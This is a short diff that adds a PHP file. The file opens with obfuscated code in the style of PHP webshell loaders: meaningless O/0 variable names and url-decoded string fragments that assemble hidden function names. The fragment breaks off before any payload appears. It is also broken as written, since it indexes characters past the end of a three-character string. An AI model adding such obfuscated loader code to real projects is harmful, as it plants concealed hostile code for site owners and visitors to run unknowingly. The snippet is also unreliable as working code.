@@ -1,0 +1,2 @@
+<?php
+$O00O0O=urldecode("%6E1%7A");$O00O00=$O00O0O{4}.$O00O0O{9};$OO00O0=$O00O0O{0};
